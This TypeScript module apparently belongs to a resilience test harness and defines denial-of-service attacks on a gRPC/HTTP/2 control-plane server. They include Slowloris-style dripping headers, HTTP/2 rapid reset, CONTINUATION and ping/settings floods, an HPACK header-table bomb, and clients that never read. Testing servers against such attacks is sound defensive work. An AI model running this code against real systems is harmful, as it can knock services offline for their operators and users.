import { randomBytes } from "node:crypto";
import { clusterType, deltaAdsPath, GrpcCall, openSession } from "./grpc-call.ts";
import {
  endHeaders,
  frame,
  frameType,
  grpcHeaders,
  grpcMessage,
  headerBlock,
  indexedHeader,
  newestEntry,
  opening,
  ping,
  reset,
  settings,
} from "./http2-frames.ts";
import { flood, type Opened, openSocket, openSockets } from "./sockets.ts";
import type { Victim } from "./victim.ts";
import type { Attack } from "./withstand.ts";

const mebibyte = 1024 * 1024;
const adsHeaders = headerBlock(grpcHeaders(deltaAdsPath));
const streamId = (index: number): number => 2 * index + 1;
const adsStream = (index: number): Buffer =>
  frame(frameType.headers, endHeaders, streamId(index), adsHeaders);

/** The beginning of a TLS handshake (RFC 8446): a record that promises more than comes. */
const clientHello = Buffer.concat([Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]), randomBytes(300)]);

/** Many connections to every port, with bytes that make no sense there. */
const garbage = (count: number): Attack => ({
  title: `garbage on every port, ${count} connections each`,
  said: "connection ended without a whole request",
  begin: async ({ ports }) => {
    const kinds: readonly (() => Uint8Array | string)[] = [
      () => randomBytes(4_096),
      () => clientHello,
      () => "GET /ready HTTP/1.1\r\nHost: x\r\n\r\n",
      () => Buffer.concat([opening, randomBytes(4_096)]),
      () => "PRI",
    ];
    const all = await Promise.all(
      Object.values(ports).flatMap((port) =>
        kinds.map((bytes) => openSockets(port, Math.ceil(count / kinds.length), bytes)),
      ),
    );
    return () => all.forEach(({ close }) => close());
  },
});

/** Connections that never send. */
const silence = (count: number): Attack => ({
  title: `${count} connections to every port that never send`,
  begin: async ({ ports }) => {
    const all: Opened[] = [];
    for (const port of Object.values(ports)) all.push(await openSockets(port, count, () => ""));
    return () => all.forEach(({ close }) => close());
  },
});

/** Heads of requests that never end. */
const slowHeads = (count: number): Attack => ({
  title: `${count} requests that never end their head, to every port of HTTP`,
  begin: async ({ ports: { http, monitoring, oldMonitoring } }) => {
    const all: Opened[] = [];
    for (const port of [http, monitoring, oldMonitoring])
      all.push(await openSockets(port, count, () => "GET /ready HTTP/1.1\r\nHost: x\r\nX-A: "));
    const drip = setInterval(() => {
      for (const { sockets } of all) for (const { socket } of sockets) if (socket.writable) socket.write("a");
    }, 100);
    return () => {
      clearInterval(drip);
      all.forEach(({ close }) => close());
    };
  },
});

/** Frames of one kind on one connection. */
const frames = (
  title: string,
  count: number,
  make: (index: number) => Uint8Array,
  cut?: Attack["cut"],
): Attack => ({
  title,
  ...(cut === undefined ? {} : { cut }),
  begin: async ({ ports }) => {
    const raw = await openSocket(ports.grpc, opening);
    const atOnce = 100;
    await flood(
      raw,
      (function* () {
        for (let begun = 0; begun < count; begun += atOnce)
          yield Buffer.concat(Array.from({ length: atOnce }, (_, index) => make(begun + index)));
      })(),
    );
    return () => raw.socket.destroy();
  },
});

const bigHeader = "z".repeat(3_900);
const refer = (times: number): Buffer => Buffer.concat(Array.from({ length: times }, () => newestEntry));

/** A header in the table, and streams that refer to it many times with a byte each. */
const headerBomb = (count: number, times: number, cut?: Attack["cut"]): Attack =>
  frames(
    `${count} streams, each with ${times} copies of a header of 4 kB in a byte each`,
    count,
    (index) => {
      const block = index === 0 ? indexedHeader("x", bigHeader) : refer(times);
      return frame(frameType.headers, endHeaders, streamId(index), Buffer.concat([adsHeaders, block]));
    },
    cut,
  );

/** Streams without a request, over many connections. */
const halfOpenStreams = (connections: number, each: number): Attack => ({
  title: `${connections * each} half-open streams over ${connections} connections`,
  begin: async ({ ports }) => {
    const bytes = Buffer.concat([opening, ...Array.from({ length: each }, (_, index) => adsStream(index))]);
    const { close } = await openSockets(ports.grpc, connections, () => bytes);
    return close;
  },
});

/** Requests of which half is sent, on connections of their own; it lasts until the first is ended. */
const halfMessages = (count: number, bytes: number): Attack => ({
  title: `${count} requests of 16 MiB of which ${bytes / mebibyte} MiB are sent`,
  begin: async ({ ports }) => {
    const half = grpcMessage(Buffer.alloc(bytes), 16 * mebibyte);
    const sessions = Array.from({ length: count }, () => openSession(ports.grpc));
    const calls = sessions.map((session) => new GrpcCall(session, deltaAdsPath));
    for (const call of calls) call.sendRaw(half);
    await Promise.race(calls.map(({ ended }) => ended));
    return () => sessions.forEach((session) => session.destroy());
  },
});

/** A request that arrives in pieces of a byte. */
const tinyPieces = (count: number): Attack =>
  frames(`a request in ${count} pieces of one byte`, count, (index) => {
    if (index > 0) return frame(frameType.data, 0, 1, Buffer.from([1]));
    return Buffer.concat([
      adsStream(0),
      frame(frameType.data, 0, 1, grpcMessage(Buffer.alloc(0), 16 * mebibyte)),
    ]);
  });

/** Clients that ask for everything and read nothing, while the configuration changes. */
const deafClients = (count: number, changes: number): Attack => ({
  title: `${count} clients that never read, and ${changes} changes`,
  begin: async (victim: Victim) => {
    const sessions = Array.from({ length: count }, () => openSession(victim.ports.grpc));
    sessions.forEach((session, index) => {
      const call = new GrpcCall(session, deltaAdsPath, {}, false);
      const id = `sidecar~10.1.1.1~deaf-${index}.default~default.svc.cluster.local`;
      call.request({ node: { id }, typeUrl: clusterType, resourceNamesSubscribe: ["*"] });
    });
    for (let change = 0; change < changes; change += 1) await victim.change();
    return () => sessions.forEach((session) => session.destroy());
  },
});

export interface Sizes {
  /** Connections to one port. */
  readonly connections: number;
  /** Streams over so many connections. */
  readonly halfOpen: number;
  readonly frames: number;
  readonly deaf: number;
  readonly changes: number;
}

export const attacks = ({ connections, halfOpen, frames: many, deaf, changes }: Sizes): readonly Attack[] => [
  garbage(connections),
  silence(connections),
  slowHeads(connections),
  halfOpenStreams(connections, Math.ceil(halfOpen / connections)),
  frames("10,000 half-open streams on one connection", 10_000, adsStream),
  frames("streams that are reset at once", many, (index) =>
    Buffer.concat([adsStream(index), reset(streamId(index))]),
  ),
  frames("a head that never ends", many, (index) =>
    index === 0
      ? frame(frameType.headers, 0, 1, adsHeaders)
      : frame(frameType.continuation, 0, 1, headerBlock({ [`x${index}`]: "y".repeat(1_000) })),
  ),
  frames("pings", many * 10, ping),
  frames("settings", many * 10, settings),
  headerBomb(2_000, 15, "headers"),
  headerBomb(200, 10_000),
  halfMessages(40, 8 * mebibyte),
  tinyPieces(many * 5),
  deafClients(deaf, changes),
];
